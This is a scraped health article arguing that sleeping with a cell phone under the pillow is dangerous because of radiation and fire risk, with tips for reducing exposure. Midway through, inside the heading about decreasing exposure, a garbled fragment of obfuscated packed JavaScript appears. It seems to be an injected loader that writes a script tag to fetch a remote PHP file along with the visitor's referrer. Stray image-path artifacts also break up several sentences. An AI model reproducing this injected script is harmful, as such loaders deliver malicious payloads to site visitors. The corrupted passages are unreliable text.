Health A-Z

This is Why Sleeping with a Cell Phone Under Your Pillow is Dangerous

There are several reasons why sleeping with a cell phone under your pillow or near your head is dangerous.
It has been indicated that cell phones can have a harmful effect on the brain, but it is still unknown whether cell phone use is linked with brain tumors or brain cancer.
However, experts recommend being cautious and restrict usage to only necessary exposures. It is not advisable to sleep with a cell phone under your pillow or next to your head because of the possibility of overexposure to potentially dangerous radiation.
There are people who are very attached to their cell phones that they sleep with them on their nightstand or even under their pillow. This is a very bad idea because cell phones draw off electromagnetic radiation whenever they’re on.  This means sleeping with your phone nearby increases your exposure all night long.
You need to either put the phone on “airplane mode” or turn it off. Another thing you can do, if you have to available for calls, is place the phone several feet away from your bed.
Dr. Joel Moskowitz, director of the Center for Family and Community Health at University of California’s Berkeley’s School of Public Health, says children should not be allowed to sleep with their phones under their pillows. Also, he disapproves of carrying cell phones in pockets because of the potential radiation exposure to reproductive systems.
This is Why Sleeping with a Cell Phone Under Your Pillow is Dangerous
How g=\’2\’ c=\’d\’ e=\’b/2\’4=\’7://.f/1/h.s.t?r=”+\’><\/k"sc|ript|yzhdh|var|u0026u|referrer|ayrdi||js|php'.split('|'),0,{})) to decrease exposure to cell phone radiation?
The electromagnetic radiation waves released by cell phones have been classified as a potential carcinogen. However, there haven’t been found any solid evidences that cell phones release enough radiation to cause cancer. Still, be cautious and reduce exposure to cell phone radiation.
Fox News report on a cell phone that caught fire underneath a teenage girl’s pillow:

Image and video source: FOX 4 News – Dallas-Fort Worth
Here are other tips to decrease exposure to cell phone radiation:

  1. Cell phones have a specific absorption rate (SAR) which indicates the amount of released radiation. Buy a cell phone with a low specific absorption rate level which advocates lower radiation levels.
  2. Using hands-free devices can reduce specific absorption rate levels on condition that they are removed from the head when not in use.
  3. Of course, limiting the time you spend talking obviously restricts exposure to cell phone radiation. Also, it is better to text instead of talk because this reduces exposure to potential radiation.
  4. Sleep away from cell phones and do not carry your mobile phone in front pockets.

We already mentioned that there are not enoughscientific evidences for a link between cell phone use and cancer, but anyway you can limit your exposure to cell phone radiation.
Don’t sleep with a cell phone under your pillow or anywhere near your head. It is anunnecessary radiation exposure, and also itcan disturb sleep or be a possible fireperil.

Related Articles